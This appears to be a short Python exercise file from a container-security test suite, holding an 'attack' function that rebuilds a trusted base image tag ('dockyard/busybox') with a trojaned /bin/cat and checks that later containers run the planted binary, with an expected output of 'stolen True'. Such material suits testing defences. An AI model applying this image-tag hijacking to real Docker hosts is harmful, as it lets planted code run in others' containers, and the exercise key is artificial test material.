"""The name of the base image, by which checks look at volumes, goes to one that prints the word.

A check must look with the image that was loaded before the first cell.
"""


def attack(client, given):
    import io

    client.volumes.create(given.volume)
    script = f"printf '#!/bin/sh\\necho {given.word}\\n' > /cat"
    text = f"FROM dockyard/busybox\nRUN {script} && chmod 755 /cat && mv -f /cat /bin/cat"
    client.images.build(fileobj=io.BytesIO(text.encode()), tag="dockyard/busybox", rm=True)
    said = client.containers.run("dockyard/busybox", ["cat", "/word"], remove=True)
    print("stolen", said.decode().strip() == given.word)


exercise = "word_on_a_volume"
prints = "stolen True"
